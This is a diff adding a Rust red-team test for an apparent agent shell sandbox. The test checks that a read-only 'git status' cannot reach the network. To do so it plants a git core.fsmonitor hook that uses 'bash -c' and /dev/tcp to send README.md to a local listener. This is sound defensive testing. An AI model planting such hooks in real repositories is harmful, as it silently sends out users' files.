@@ -296,3 +296,103 @@ async fn private_tmp(test: &str, ws: &Path) {
 async fn the_private_temp_dir_is_the_commands_alone() {
     as_both!("the_private_temp_dir_is_the_commands_alone", private_tmp);
 }
+
+// ---------------------------------------------------------------------------------------------
+// Red-team pass 4, R4-10: a command allowed only because it reads (the read-only lane, a
+// read-only phase) keeps no network, even with `shell.network = true`: `git status` running a
+// shipped `core.fsmonitor` that posts the workspace to a listener.
+
+async fn git_status(ws: &Path, sandbox: SandboxPolicy) -> String {
+    use keel_tools::shell::{self, LintSettings, ShellSettings};
+    use keel_tools::{ToolContext, ToolRegistry, Workspace};
+    let mut tools = ToolRegistry::new();
+    let settings = ShellSettings {
+        network: true,
+        ..ShellSettings::default()
+    };
+    let lint = LintSettings {
+        enabled: false,
+        ..LintSettings::default()
+    };
+    shell::register(&mut tools, settings, lint);
+    let mut ctx = ToolContext::new(Workspace::new(ws).unwrap());
+    ctx.sandbox = sandbox;
+    tools
+        .execute(
+            "run_command",
+            serde_json::json!({"command": "git status --short"}),
+            &ctx,
+        )
+        .await
+        .map(|o| o.content)
+        .unwrap_or_else(|e| e.to_string())
+}
+
+#[tokio::test]
+async fn a_command_allowed_because_it_reads_has_no_network() {
+    let test = "a_command_allowed_because_it_reads_has_no_network";
+    let git = exec::find_program("git");
+    if !have(git.is_some(), test, "git is not installed") || !namespaces(test) {
+        return;
+    }
+    let plain_git = |ws: &Path, args: &[&str]| {
+        let ok = std::process::Command::new("git")
+            .args(args)
+            .current_dir(ws)
+            .env("GIT_CONFIG_NOSYSTEM", "1")
+            .env("GIT_CONFIG_GLOBAL", "/dev/null")
+            .status()
+            .is_ok_and(|s| s.success());
+        assert!(ok, "git {args:?} failed");
+    };
+    let dir = tempfile::tempdir().unwrap();
+    let ws = dir.path();
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    plain_git(ws, &["init", "-q"]);
+    std::fs::write(ws.join("README.md"), "PROJECT-NOTES\n").unwrap();
+    plain_git(ws, &["add", "."]);
+    plain_git(
+        ws,
+        &[
+            "-c",
+            "user.name=t",
+            "-c",
+            "user.email=t@t",
+            "commit",
+            "-qm",
+            "one",
+        ],
+    );
+    plain_git(
+        ws,
+        &[
+            "config",
+            "core.fsmonitor",
+            &format!("bash -c 'cat README.md > /dev/tcp/127.0.0.1/{port}'; false"),
+        ],
+    );
+    // The control: allowed to write, with the network on, the hook reaches the listener.
+    let out = git_status(ws, SandboxPolicy::WorkspaceWrite).await;
+    let reached = |l: &TcpListener| {
+        (0..50).any(|_| {
+            if l.accept().is_ok() {
+                return true;
+            }
+            std::thread::sleep(Duration::from_millis(20));
+            false
+        })
+    };
+    assert!(reached(&listener), "the control never connected: {out}");
+    // git may run the hook more than once: every connection of the control is taken.
+    std::thread::sleep(Duration::from_millis(300));
+    while listener.accept().is_ok() {}
+    // Allowed because it reads: no connection.
+    let out = git_status(ws, SandboxPolicy::ReadOnly).await;
+    assert!(out.contains("exit code"), "{out}");
+    assert!(
+        !reached(&listener),
+        "a read-only command reached the network: {out}"
+    );
+}
